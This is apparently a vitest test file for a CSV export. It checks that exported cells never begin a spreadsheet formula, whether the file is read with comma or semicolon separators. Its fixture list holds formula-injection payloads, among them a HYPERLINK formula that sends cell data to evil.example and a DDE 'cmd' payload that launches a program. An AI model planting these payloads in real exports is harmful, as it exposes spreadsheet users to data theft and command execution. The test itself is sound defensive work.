import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import { toCsv } from './exports.js'
import type { PublicPartnership, PublicSide } from './service.js'

/** Text a spreadsheet would run as a formula if a cell began with it. */
const payloads = [
  '=HYPERLINK("https://evil.example/?"&A1,"Klick")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
]
/** The same, hidden behind a separator, so it begins a cell once a program splits the line there. */
const hidden = payloads.flatMap((p) => [
  `Plakate;${p}`,
  `Plakate,${p}`,
  `Plakate; ${p}`,
  `a";${p}`,
  `a",${p}`,
])

const side = (id: string, name: string, coordinator: string): PublicSide => ({
  id,
  name,
  stateAgs: '16',
  point: [-11.5, 50.5],
  coordinator: { name: coordinator, email: 'a@example.org' },
})

const list: PublicPartnership[] = [...payloads, ...hidden].map((text, i) => ({
  id: `p${i}`,
  kind: 'partnership',
  status: 'active',
  startedOn: '2020-01-01',
  story: text,
  tags: [text, 'Wahlkampf'],
  a: side(`a${i}`, text, text),
  b: side(`b${i}`, `KV ${text}`, `Erika ${text}`),
}))

const formulaStart = /^[=+\-@\t\r]/
const isNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell)

/** The cells a spreadsheet would start as a formula: text that begins with one of the trigger characters. */
function formulaCells(rows: string[][]) {
  return rows.flat().filter((cell) => formulaStart.test(cell) && !isNumber(cell))
}

describe('the CSV export', () => {
  const csv = toCsv(list)

  test('read with "," as separator, it gives back every value, and no cell starts a formula', () => {
    const rows = parse(csv, { bom: true }) as string[][]
    expect(rows).toHaveLength(list.length + 1)
    expect(formulaCells(rows)).toEqual([])
    const byId = new Map(rows.slice(1).map((r) => [r[0], r]))
    for (const p of list) {
      const story = byId.get(p.id)!.at(-1)!
      expect(story.replace(/(^|[;,])([ "]*)'(?=[=+\-@\t\r])/g, '$1$2')).toBe(p.story)
    }
  })

  test('read with ";" as separator (German spreadsheets), no cell starts a formula either', () => {
    // A program that splits on ";" reads this file's quotes only where a cell begins with one, and
    // may ignore them altogether: both readings are checked.
    const ignoringQuotes = parse(csv, { bom: true, delimiter: ';', quote: false, relax_column_count: true })
    const unquoted = (ignoringQuotes as string[][]).map((r) => r.map((c) => c.replace(/^[\s"]*/, '')))
    expect(formulaCells(unquoted)).toEqual([])
  })

  test('every cell is quoted', () => {
    for (const line of csv
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n')
      .slice(0, 3)) {
      expect(line).toMatch(/^"/)
      expect(line).toMatch(/"$/)
    }
  })
})
